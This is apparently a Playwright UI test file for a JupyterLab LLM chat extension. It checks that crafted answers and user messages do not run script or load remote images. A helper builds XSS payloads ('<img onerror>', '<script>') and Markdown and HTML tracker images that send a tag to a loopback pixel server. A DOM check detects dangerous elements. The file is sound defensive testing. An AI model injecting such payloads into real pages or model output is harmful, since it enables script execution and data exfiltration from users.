"""Output that cannot run, in a real browser: the chat panel (and ``%%llama -f markdown`` in a
notebook) shows a crafted answer with an ``<img onerror>``, a ``<script>`` and a remote Markdown
image as text and links: no script runs, no image loads.

The answers are deterministic: the Jupyter server fronts a fake OpenAI-compatible server
(``remote_url``) on loopback that streams a fixed answer per question and also serves the
"tracker" image, recording every request it gets. The page's own requests are recorded too.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Iterator

import pytest

from tests.conftest import free_port
from tests.ui.conftest import ASSISTANT, Chat, Lab

MODEL = "fake-remote"
PIXEL = "/pixel.png"
# 1x1 transparent GIF: what a tracker would send back.
GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")


def crafted(port: int, tag: str, base: int) -> str:
    """An answer that would run script (``window.__pwned``) and send ``d=<tag>`` out if rendered as HTML."""
    return (f'Here: <img src=x onerror="window.__pwned={base}"> '
            f"![tracker](http://127.0.0.1:{port}{PIXEL}?d={tag}) "
            f"<script>window.__pwned={base + 1}</script> "
            f'<img src="http://127.0.0.1:{port}{PIXEL}?d={tag}-html" alt="html-tracker"> '
            f"done-{tag}.")


class FakeRemote:
    """A tiny OpenAI-compatible server: ``answers`` maps a word of the last user message to the
    answer streamed back; ``GET /pixel.png`` answers an image. ``requests`` lists every path."""

    def __init__(self) -> None:
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.requests: list[str] = []
        self.answers: dict[str, str] = {}
        self.lock = threading.Lock()
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def _json(self, status: int, body: Any) -> None:
                raw = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(raw)))
                self.end_headers()
                self.wfile.write(raw)

            def do_GET(self) -> None:  # noqa: N802
                with fake.lock:
                    fake.requests.append(self.path)
                if self.path.startswith(PIXEL):
                    self.send_response(200)
                    self.send_header("Content-Type", "image/gif")
                    self.send_header("Content-Length", str(len(GIF)))
                    self.end_headers()
                    self.wfile.write(GIF)
                elif self.path.rstrip("/") in ("/v1/models", "/models"):
                    self._json(200, {"object": "list", "data": [
                        {"id": MODEL, "object": "model", "owned_by": "test", "meta": {"n_ctx": 4096, "n_ctx_train": 4096}}]})
                else:
                    self._json(404, {"error": {"message": "not found"}})

            def do_POST(self) -> None:  # noqa: N802
                with fake.lock:
                    fake.requests.append(self.path)
                length = int(self.headers.get("Content-Length") or 0)
                try:
                    body = json.loads(self.rfile.read(length) or b"{}")
                except ValueError:
                    body = {}
                if self.path == "/tokenize":
                    text = str(body.get("content", ""))
                    self._json(200, {"tokens": list(range(len(text.split()) + len(text) // 4))})
                    return
                if self.path not in ("/v1/chat/completions", "/v1/completions"):
                    self._json(404, {"error": {"message": "not found"}})
                    return
                chat = self.path.endswith("chat/completions")
                if chat:
                    users = [m for m in body.get("messages", []) if m.get("role") == "user"]
                    question = str(users[-1].get("content", "")) if users else ""
                else:
                    question = str(body.get("prompt", ""))
                answer = next((a for key, a in fake.answers.items() if key in question), "Nothing to say.")
                if not body.get("stream"):
                    choice = ({"index": 0, "message": {"role": "assistant", "content": answer}} if chat
                              else {"index": 0, "text": answer})
                    self._json(200, {"id": "x", "object": "chat.completion" if chat else "text_completion",
                                     "model": MODEL, "choices": [{**choice, "finish_reason": "stop"}],
                                     "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})
                    return
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.send_header("Cache-Control", "no-cache")
                self.send_header("Connection", "close")
                self.end_headers()
                pieces = [answer[i:i + 12] for i in range(0, len(answer), 12)]
                for n, piece in enumerate(pieces):
                    last = n == len(pieces) - 1
                    choice = ({"index": 0, "delta": {"content": piece}} if chat else {"index": 0, "text": piece})
                    event = {"id": "x", "object": "chat.completion.chunk" if chat else "text_completion",
                             "model": MODEL, "choices": [{**choice, "finish_reason": "stop" if last else None}]}
                    self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
                    self.wfile.flush()
                usage = {"id": "x", "model": MODEL, "choices": [],
                         "usage": {"prompt_tokens": 5, "completion_tokens": len(pieces), "total_tokens": 5 + len(pieces)}}
                self.wfile.write(f"data: {json.dumps(usage)}\n\ndata: [DONE]\n\n".encode())
                self.wfile.flush()

        self.server = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def pixel_hits(self) -> list[str]:
        with self.lock:
            return [p for p in self.requests if p.startswith(PIXEL)]

    def chat_count(self) -> int:
        with self.lock:
            return sum(p.endswith("/completions") for p in self.requests)


@pytest.fixture(scope="module")
def fake_remote() -> Iterator[FakeRemote]:
    fake = FakeRemote()
    fake.thread.start()
    try:
        yield fake
    finally:
        fake.server.shutdown()
        fake.server.server_close()


@pytest.fixture(scope="module")
def lab_options(fake_remote: FakeRemote) -> dict[str, Any]:
    return {"llamalab": {"remote_url": fake_remote.url, "preload": False}}


class PageRequests:
    """Every request the page made (any frame, any type), as URLs."""

    def __init__(self, lab: Lab) -> None:
        self.urls: list[str] = []
        lab.page.context.on("request", lambda request: self.urls.append(request.url))

    def suspicious(self, lab_url: str) -> list[str]:
        return [u for u in self.urls if PIXEL in u or u.split("?")[0].rstrip("/").endswith("/x")]


# What the chat panel may not contain once an answer is rendered: scripts, images that load from
# anywhere but inline data, event-handler attributes, frames and objects.
DANGEROUS_DOM_JS = """
(el) => {
  const found = [];
  for (const s of el.querySelectorAll('script')) found.push('script: ' + s.outerHTML.slice(0, 120));
  for (const i of el.querySelectorAll('img, image, source, video, audio, picture, iframe, embed, object, frame')) {
    const src = i.getAttribute('src') || i.getAttribute('srcset') || i.getAttribute('href') || i.getAttribute('data') || '';
    if (!/^data:image\\//i.test(src)) found.push(i.tagName.toLowerCase() + ': ' + i.outerHTML.slice(0, 160));
  }
  for (const e of el.querySelectorAll('*')) {
    for (const a of e.attributes) {
      if (/^on/i.test(a.name)) found.push('handler ' + a.name + ' on ' + e.tagName.toLowerCase());
    }
  }
  return found;
}
"""


def settle(lab: Lab, chat: Chat, fake: FakeRemote) -> None:
    """A later event: one more question answered end to end (a server round trip and a render
    after the crafted answer), so a load or an onerror the first answer set off has happened."""
    fake.answers["quiet-please"] = "All quiet here."
    before = chat.send("quiet-please")
    chat.wait_finished(before, timeout=60)
    assert "All quiet here." in chat.answer_text(before)
    # and the page's event loop has turned past any pending image error events
    lab.page.evaluate("() => new Promise(r => requestAnimationFrame(() => setTimeout(r, 0)))")


def test_a_crafted_answer_runs_nothing_and_loads_nothing(lab: Lab, chat: Chat, fake_remote: FakeRemote) -> None:
    requests = PageRequests(lab)
    fake_remote.answers["show-me-the-chart"] = crafted(fake_remote.port, "chat", 1)
    chat.open()
    before = chat.send("show-me-the-chart")
    lab.page.wait_for_function(
        "([sel, i]) => { const m = document.querySelectorAll(sel)[i];"
        " const b = m && m.querySelector('.llamalab-message-body');"
        " return b && b.textContent.includes('done-chat.') && m.hasAttribute('data-finish-reason'); }",
        arg=[ASSISTANT, before], timeout=60_000)
    answer = chat.wait_finished(before, timeout=60)
    assert answer.get_attribute("data-finish-reason") == "stop", answer.get_attribute("data-finish-reason")
    settle(lab, chat, fake_remote)
    lab.shot("crafted-answer", chat.panel)

    pwned = lab.page.evaluate("() => window.__pwned")
    assert pwned is None, f"script from the answer ran in the page: window.__pwned = {pwned!r}"
    assert not fake_remote.pixel_hits(), f"the answer's remote image was loaded: {fake_remote.pixel_hits()}"
    assert not requests.suspicious(lab.server.url), f"the page requested: {requests.suspicious(lab.server.url)}"
    dangerous = answer.evaluate(DANGEROUS_DOM_JS)
    assert not dangerous, f"active or loading elements in the answer: {dangerous}"
    whole = chat.panel.evaluate(DANGEROUS_DOM_JS)
    assert not whole, f"active or loading elements in the chat panel: {whole}"

    text = chat.answer_text(before)
    assert "Here:" in text and "done-chat." in text, text
    assert answer.inner_text().count("tracker") >= 1, f"the image's alt text is not shown: {answer.inner_text()!r}"
    assert answer.is_visible()
    links = answer.locator("a").evaluate_all("(as) => as.map(a => a.getAttribute('href') || '')")
    assert any(f"127.0.0.1:{fake_remote.port}{PIXEL}" in href for href in links), (
        f"the remote image is neither loaded nor offered as a link: {links}")
    assert chat.answer_count() == before + 2


def test_a_crafted_message_of_the_user_runs_nothing(lab: Lab, chat: Chat, fake_remote: FakeRemote) -> None:
    """The user's own message (pasted from anywhere) is shown the same safe way."""
    requests = PageRequests(lab)
    chat.open()
    message = "echo-this " + crafted(fake_remote.port, "user", 3)
    fake_remote.answers["echo-this"] = "Noted."
    before = chat.send(message)
    chat.wait_finished(before, timeout=60)
    user = lab.page.locator('#llamalab-chat .llamalab-message[data-role="user"]').last
    assert "done-user." in user.inner_text()
    settle(lab, chat, fake_remote)
    pwned = lab.page.evaluate("() => window.__pwned")
    assert pwned is None, f"script from the user's message ran in the page: window.__pwned = {pwned!r}"
    assert not fake_remote.pixel_hits(), f"the message's remote image was loaded: {fake_remote.pixel_hits()}"
    assert not requests.suspicious(lab.server.url), f"the page requested: {requests.suspicious(lab.server.url)}"
    whole = chat.panel.evaluate(DANGEROUS_DOM_JS)
    assert not whole, f"active or loading elements in the chat panel: {whole}"


def test_llama_magic_markdown_output_runs_nothing(lab: Lab, fake_remote: FakeRemote) -> None:
    """``%%llama -f markdown`` shows the same crafted answer in a notebook, which JupyterLab renders
    as trusted output once the cell ran: it must still be text."""
    requests = PageRequests(lab)
    fake_remote.answers["notebook-chart"] = crafted(fake_remote.port, "magic", 5)
    lab.new_notebook("crafted.ipynb", cells=["%load_ext llamalab.extension\n",
                                            "%%llama -f markdown\nnotebook-chart"])
    page = lab.page
    lab.command("notebook:run-all-cells")
    output = page.locator(".jp-NotebookPanel .jp-Cell").nth(1).locator(".jp-OutputArea-output")
    page.wait_for_function(
        "() => { const cells = document.querySelectorAll('.jp-NotebookPanel .jp-Cell');"
        " const o = cells[1] && cells[1].querySelector('.jp-OutputArea');"
        " return o && (o.textContent.includes('done-magic.') || /Error|Traceback/.test(o.textContent)); }",
        timeout=90_000)
    shown = output.first.inner_text()
    assert "done-magic." in shown, f"the magic did not show the answer: {shown!r}"
    # a later event: the kernel is idle again (the cell finished) and one more round trip to it
    page.wait_for_function("() => { const w = window.jupyterapp.shell.currentWidget;"
                           " return w.sessionContext.session.kernel.status === 'idle'; }", timeout=60_000)
    lab.command("notebook:insert-cell-below")
    page.evaluate("async () => { const w = window.jupyterapp.shell.currentWidget;"
                  " const f = w.sessionContext.session.kernel.requestExecute({code: '1+1'}); await f.done; }")
    page.evaluate("() => new Promise(r => requestAnimationFrame(() => setTimeout(r, 0)))")
    lab.shot("magic-output")

    pwned = page.evaluate("() => window.__pwned")
    assert pwned is None, f"script from the magic's output ran in the page: window.__pwned = {pwned!r}"
    assert not fake_remote.pixel_hits(), f"the magic's remote image was loaded: {fake_remote.pixel_hits()}"
    assert not requests.suspicious(lab.server.url), f"the page requested: {requests.suspicious(lab.server.url)}"
    dangerous = page.locator(".jp-NotebookPanel .jp-Cell").nth(1).locator(".jp-OutputArea").evaluate(DANGEROUS_DOM_JS)
    assert not dangerous, f"active or loading elements in the magic's output: {dangerous}"
